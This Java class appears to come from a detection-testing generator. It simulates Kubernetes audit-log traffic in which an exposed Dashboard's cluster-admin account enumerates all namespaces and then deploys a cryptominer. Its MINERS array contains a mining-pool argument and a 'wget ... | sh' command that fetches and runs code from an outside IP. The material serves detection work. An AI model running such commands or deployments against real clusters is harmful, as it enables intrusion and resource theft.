package io.chainwatch.generate;

import io.chainwatch.generate.ClusterProfile.Node;

import static io.chainwatch.generate.Obj.arr;
import static io.chainwatch.generate.Obj.of;
import static io.chainwatch.generate.TrafficModel.S;

/**
 * Exposed management UI deploys with its own account (S26; Microsoft's threat matrix "Exposed sensitive
 * interfaces" MS-TA9005; the Tesla dashboard and Kubeflow cryptomining cases): a Kubernetes Dashboard running
 * in skip-login mode with a powerful service account is reached from the internet. Its pod first does its own
 * routine reads (settings ConfigMap, CSRF and key-holder Secrets of its namespace); then the visitor browses "All
 * namespaces" - namespaces, nodes, pods, deployments, secrets listed cluster-wide - and deploys a miner with
 * the "Create" form (a Deployment) or "Create from input" (a pod). Every request is the dashboard's bound
 * token, from the dashboard pod's IP. The controllers then roll the Deployment out. Evidence: the first
 * cluster-wide list, the workload create.
 */
final class DashboardDeployScenario implements Scenario {
    static final String[][] MINERS = {{"docker.io/xmrig/xmrig:6.21.0", "-o stratum+tcp://pool.minexmr.com:4444"},
            {"docker.io/ddsfdfsaadfs/dfsdf:99", "--donate-level=1"}, {"docker.io/library/alpine:3.19",
            "wget -qO- http://185.193.127.21/x | sh"}};

    @Override
    public String name() {
        return "dashboard-deploy";
    }

    @Override
    public String patternId() {
        return "management-ui-account-enumerates-then-deploys";
    }

    @Override
    public String description() {
        return "Kubernetes Dashboard's own account lists across all namespaces, then creates a miner workload";
    }

    @Override
    public void inject(ScenarioContext c, long t) {
        Rng r = c.rng;
        ClusterProfile p = c.profile;
        String ns = "kubernetes-dashboard";
        boolean v7 = r.chance(0.35);
        String sa = v7 ? "kubernetes-dashboard-api" : "kubernetes-dashboard";
        String ua = v7 ? "dashboard-api/v1.10.1" : "dashboard/v2.7.0";
        Node node = r.pick(p.nodes);
        String podName = sa + "-" + r.suffix(9 + r.nextInt(2)) + "-" + r.suffix(5);
        Identity ui = Identity.boundToken(ns, sa, Rng.uuidOf(p.seed, "sa/" + ns + "/" + sa), podName, r.uuid(), node.name,
                node.uid, r.nextLong(), new String[] {node.nextPodIP()}, ua,
                ClusterProfile.rbacReason("ClusterRoleBinding", sa, "ClusterRole", "cluster-admin", "ServiceAccount",
                        sa + "/" + ns));
        long at = t;
        // the dashboard's own reads
        for (int i = 0, n = r.between(1, 3); i < n; i++) {
            c.submit(c.request(ui, at, "get", Res.CONFIGMAPS, ns, "kubernetes-dashboard-settings", null));
            if (r.chance(0.5)) {
                c.submit(c.request(ui, at + r.range(2_000, 40_000), "get", Res.SECRETS, ns,
                        r.chance(0.5) ? "kubernetes-dashboard-csrf" : "kubernetes-dashboard-key-holder", null));
            }
            at += r.range(20 * S, 120 * S);
        }
        // the visitor browses "All namespaces": the first list is the pattern's first step
        Res[] pages = {Res.NAMESPACES, Res.NODES, Res.PODS, Res.DEPLOYMENTS, Res.DAEMONSETS, Res.SECRETS, Res.SERVICEACCOUNTS};
        c.evidence(c.request(ui, at, "list", Res.NAMESPACES, null, null, null));
        for (int i = 0, n = r.between(3, 9); i < n; i++) {
            at += r.range(2 * S, 45 * S);
            Res page = pages[1 + r.nextInt(pages.length - 1)];
            c.submit(c.request(ui, at, "list", page, null, null, null).uri(page == Res.PODS ? "?limit=100" : null));
            if (page == Res.PODS && r.chance(0.5)) {
                c.submit(c.request(ui, at + r.range(100_000, 900_000), "list", Res.NODE_METRICS, null, null, null));
            }
        }
        at += r.range(30 * S, 300 * S);
        // the form's default namespace (the app namespaces enforce the restricted pod-security profile)
        String target = "default";
        String[] miner = r.pick(MINERS);
        String name = r.pick(new String[] {"web-cache", "nginx-proxy", "worker", "app", "test"}) + "-" + r.suffix(4);
        Obj container = of("name", name, "image", miner[0],
                "resources", of("requests", of("cpu", "500m")), "securityContext", of("privileged", r.chance(0.4)));
        if (miner[1].contains(" ")) {
            container.put("command", arr("sh", "-c", miner[1]));
        } else {
            container.put("args", arr(miner[1]));
        }
        Obj podSpec = of("containers", arr(container));
        Obj labels = of("k8s-app", name);
        String uid = r.uuid();
        if (r.chance(0.65)) {
            // the "Create" form: a Deployment (and a Service the form offers)
            int replicas = r.between(1, 4);
            Obj meta = of("name", name, "namespace", target, "labels", labels, "annotations", of());
            Obj spec = of("replicas", replicas, "selector", of("matchLabels", labels),
                    "template", of("metadata", of("name", name, "labels", labels), "spec", podSpec));
            c.evidence(c.request(ui, at, "create", Res.DEPLOYMENTS, target, name, null)
                    .bodies(of("kind", "Deployment", "apiVersion", "apps/v1", "metadata", meta, "spec", spec),
                            of("kind", "Deployment", "apiVersion", "apps/v1", "metadata", meta.with("uid", uid,
                                    "resourceVersion", c.state.nextResourceVersion(), "generation", 1,
                                    "creationTimestamp", Times.rfc3339Seconds(at)), "spec", spec, "status", of())));
            String hash = r.suffix(9 + r.nextInt(2));
            String rs = name + "-" + hash;
            String rsUid = r.uuid();
            long rsAt = at + r.range(20_000, 300_000);
            Obj rsLabels = labels.with("pod-template-hash", hash);
            Obj rsMeta = of("name", rs, "namespace", target, "labels", rsLabels,
                    "ownerReferences", arr(ControllerChains.ownerRef("apps/v1", "Deployment", name, uid)));
            Obj rsObj = of("kind", "ReplicaSet", "apiVersion", "apps/v1", "metadata", rsMeta,
                    "spec", of("replicas", replicas, "selector", of("matchLabels", rsLabels),
                            "template", of("metadata", of("labels", rsLabels), "spec", podSpec)));
            c.submit(c.request(p.deploymentController, rsAt, "create", Res.REPLICASETS, target, rs, null)
                    .bodies(rsObj, rsObj.with("metadata", rsMeta.with("uid", rsUid, "resourceVersion",
                            c.state.nextResourceVersion(), "creationTimestamp", Times.rfc3339Seconds(rsAt)))));
            long podAt = rsAt + r.range(5_000, 40_000);
            for (int i = 0; i < replicas; i++) {
                Node n = r.pick(p.nodes);
                String pod = rs + "-" + r.suffix(5);
                String podUid = r.uuid();
                c.submit(ControllerChains.ownedPod(c, p.replicaSetController, podAt, target, rs + "-", pod, podUid, rsLabels,
                        ControllerChains.ownerRef("apps/v1", "ReplicaSet", rs, rsUid), podSpec, "Burstable"));
                ControllerChains.run(c, podAt, n, target, pod, podUid, name, n.nextPodIP(), false);
                podAt += r.range(20_000, 400_000);
            }
        } else {
            // "Create from input": a bare pod
            Obj meta = of("name", name, "namespace", target, "labels", labels);
            c.evidence(c.request(ui, at, "create", Res.PODS, target, name, null)
                    .bodies(of("kind", "Pod", "apiVersion", "v1", "metadata", meta, "spec", podSpec),
                            of("kind", "Pod", "apiVersion", "v1", "metadata", meta.with("uid", uid,
                                    "resourceVersion", c.state.nextResourceVersion(), "creationTimestamp", Times.rfc3339Seconds(at)),
                                    "spec", Workloads.defaulted(podSpec, null), "status", of("phase", "Pending", "qosClass", "Burstable")))
                    .annotate("pod-security.kubernetes.io/enforce-policy", ControllerChains.podSecurity(target)));
            Node n = r.pick(p.nodes);
            ControllerChains.run(c, at, n, target, name, uid, name, n.nextPodIP(), false);
        }
        // the visitor looks at what is running
        at += r.range(20 * S, 200 * S);
        c.submit(c.request(ui, at, "list", Res.PODS, target, null, null).uri("?limit=100"));
    }
}
